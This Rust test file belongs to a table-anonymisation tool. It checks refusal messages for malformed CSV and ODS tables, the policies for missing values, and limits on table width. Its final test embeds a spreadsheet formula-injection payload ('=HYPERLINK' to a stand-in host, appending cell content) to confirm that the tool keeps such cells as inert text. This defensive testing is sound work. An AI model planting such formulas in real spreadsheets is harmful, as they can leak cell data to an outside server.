//! Tables that cannot be anonymised, and what the program says about them.

use crate::refusals::{SECRET, refused};
use crate::support::{Folder, ROLES};

/// A table, the request on it, the status, and what is said: one entry a message.
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
);

const CASES: &[Case] = &[
    (
        "empty file",
        "",
        "",
        &["the table is empty: a header row and at least one row are needed"],
    ),
    (
        "header only",
        "Nom,CP,Age,C.E.\n",
        "",
        &["the table has a header but no row"],
    ),
    (
        "duplicate and empty header",
        "Nom,CP,Age,C.E.,CP,\nZanzibar77,1,2,3,4,5\n",
        "",
        &[
            "columns 2 and 5 are both called \"CP\"; names must differ",
            "column 6 has no name in the header; give it one",
        ],
    ),
    (
        "ragged rows",
        "Nom,CP,Age,C.E.\nZanzibar77,18000\nZanzibar77,1,2,3,Zanzibar77\nZanzibar77,1,2,3\n",
        "",
        &[
            "row 2 has 2 cells where the header has 4",
            "row 3 has 5 cells where the header has 4",
        ],
    ),
    (
        "missing values in a quasi-identifier",
        "Nom,CP,Age,C.E.\nZanzibar77,,22,50\nb,69000,27,70\nc,18500,,90\nd,18510,20,60\n",
        "",
        &[
            "quasi-identifier \"CP\" has 1 missing values, first in data row 1; choose…--missing-values category, drop or suppress",
            "quasi-identifier \"Age\" has 1 missing values, first in data row 3",
        ],
    ),
    (
        "words where most cells are numbers",
        "Nom,CP,Age,C.E.\na,18000,22,50\nb,69000,Zanzibar77,70\nc,18500,21,90\nd,18510,20,60\n",
        "",
        &[
            "attribute \"Age\" should be integer, but 1 cells are not, first in data row 2; correct them…--type Age=text",
        ],
    ),
    (
        "words where numbers are demanded",
        "Nom,CP,Age,C.E.\na,18000,Zanzibar77,50\nb,69000,Zanzibar77,70\nc,18500,21,90\nd,18510,20,60\n",
        "--type Age=integer",
        &["attribute \"Age\" should be integer, but 2 cells are not, first in data row 1, 2"],
    ),
    (
        "a zero byte",
        "Nom,CP,Age,C.E.\na,18000,22,50\nZanzibar77\0,69000,1,70\nc,18500,21,90\nd,18510,20,60\n",
        "",
        &["in.csv: line 3 holds a zero byte: this is binary data or damaged; save it as CSV text"],
    ),
    (
        "a quote that is never closed",
        "Nom,CP,Age,C.E.\na,18000,22,50\n\"Zanzibar77,69000,1,70\nc,18500,21,90\n",
        "",
        &["in.csv: the quote that opens a cell in line 3 is never closed; close it"],
    ),
];

#[test]
fn every_bad_table_is_refused_with_its_message() {
    for (name, table, more, says) in CASES {
        eprintln!("case: {name}");
        let folder = Folder::new().with("in.csv", table);
        refused(
            &folder,
            &format!("anonymize in.csv {ROLES} -o out.csv {more}"),
            2,
            says,
        );
    }
}

/// The same faults in a workbook: a sheet holds them as a text file does.
#[test]
fn every_fault_of_a_header_is_found_in_a_workbook_too() {
    let row = |cells: &[&str]| {
        let cells: String = cells
            .iter()
            .map(|cell| format!("<table:table-cell><text:p>{cell}</text:p></table:table-cell>"))
            .collect();
        format!("<table:table-row>{cells}</table:table-row>")
    };
    let cases = [
        (
            row(&["Nom", "CP", "CP", "C.E."]) + &row(&[SECRET, "1", "2", "3"]),
            vec!["both called \"CP\"", "no attribute \"Age\""],
        ),
        (
            row(&["Nom", "CP", "Age", "C.E."]),
            vec!["a header but no row"],
        ),
    ];
    for (rows, says) in cases {
        let sheet = format!("<table:table table:name=\"S\">{rows}</table:table>");
        let content = format!(
            "<office:document-content><office:body><office:spreadsheet>{sheet}</office:spreadsheet></office:body></office:document-content>"
        );
        let folder = Folder::new().with(
            "in.ods",
            crate::support::zipped(&[("content.xml", content.as_bytes())]),
        );
        refused(
            &folder,
            &format!("anonymize in.ods {ROLES} -o out.csv"),
            2,
            &says,
        );
    }
}

const WITH_MISSING: &str = "Nom,CP,Age,C.E.\nSue,,22,50\nPat,69000,27,70\nBob,18500,,90\nBill,18510,20,60\nDan,69100,26,70\nSam,69300,28,75\n";

#[test]
fn every_policy_for_missing_values_gives_a_release_that_the_check_accepts() {
    // Policy, k, rows released, rows left out.
    let cases = [
        ("category", 3, 6, 0),
        ("drop", 2, 4, 2),
        ("suppress", 2, 6, 0),
        ("suppress", 3, 4, 2),
    ];
    for (policy, k, rows, left_out) in cases {
        let folder = Folder::new().with("in.csv", WITH_MISSING);
        let line = format!(
            "anonymize in.csv --qi CP,Age --sensitive C.E. --id Nom -k {k} --missing-values {policy}"
        );
        let report = folder.run(&format!("{line} -o out.csv --json")).ok().json();
        assert_eq!(
            (&report["rows"], &report["suppressed_rows"]),
            (&rows.into(), &left_out.into()),
            "{policy}"
        );
        assert_eq!(folder.cells("out.csv").len(), rows + 1, "{policy}");
        folder
            .run(&format!(
                "check out.csv --person Pseudo --qi CP,Age --sensitive C.E. -k {k}"
            ))
            .ok();
    }
}

#[test]
fn a_suppressed_row_shows_nothing_of_its_quasi_identifiers() {
    let folder = Folder::new().with("in.csv", WITH_MISSING);
    folder.run("anonymize in.csv --qi CP,Age --sensitive C.E. --keep Nom -k 2 --missing-values suppress --keep-order -o out.csv").ok();
    let cells = folder.cells("out.csv");
    assert_eq!(cells[1], ["Sue", "*", "*", "50"]);
    assert_eq!(cells[3], ["Bob", "*", "*", "90"]);
}

#[test]
fn ten_thousand_columns_are_handled_and_twice_as_many_refused() {
    let wide = |columns: usize| {
        let header: Vec<String> = (0..columns).map(|c| format!("c{c}")).collect();
        let rows = (0..6).map(|row| {
            (0..columns)
                .map(|c| ((row + c) % 3).to_string())
                .collect::<Vec<_>>()
                .join(",")
        });
        std::iter::once(header.join(","))
            .chain(rows)
            .collect::<Vec<_>>()
            .join("\n")
    };
    let folder = Folder::new()
        .with("wide.csv", wide(10_000))
        .with("in.csv", wide(20_000));
    folder
        .run("anonymize wide.csv --qi c0,c9999 -k 2 -o out.csv")
        .ok();
    let cells = folder.cells("out.csv");
    assert_eq!((cells.len(), cells[0].len()), (7, 10_000));
    folder
        .run("anonymize wide.csv --qi c0,c9999 -k 2 -o out.ods")
        .ok();
    let says = [
        "the table has 20000 columns where at most 16384 can be handled; keep those that are needed",
    ];
    refused(
        &folder,
        "anonymize in.csv --qi c0,c9999 -k 2 -o out2.csv",
        2,
        &says,
    );
}

#[test]
fn a_cell_that_begins_like_a_formula_stays_text_everywhere() {
    let cell = "=HYPERLINK(\"http://x/\"&A1)";
    let rows: String = (0..4)
        .map(|row| format!("{row},\"{}\"\n", cell.replace('"', "\"\"")))
        .collect();
    let folder = Folder::new().with("in.csv", format!("Age,Note\n{rows}"));
    for output in ["out.ods", "out.xlsx", "out.csv", "out.parquet"] {
        folder
            .run(&format!("anonymize in.csv --qi Age -k 2 -o {output}"))
            .ok();
    }
    for workbook in ["out.ods", "out.xlsx"] {
        for (name, part) in crate::support::unzipped(&folder.bytes(workbook)) {
            let part = String::from_utf8_lossy(&part).into_owned();
            assert!(
                !part.contains("<f>") && !part.contains("table:formula"),
                "{workbook} {name}"
            );
        }
        assert_eq!(folder.cells(workbook)[1][1], cell, "{workbook}");
    }
    assert_eq!(folder.cells("out.parquet")[1][1], cell);
    assert!(
        folder.text("out.csv").contains("\"'=HYPERLINK"),
        "{}",
        folder.text("out.csv")
    );
}
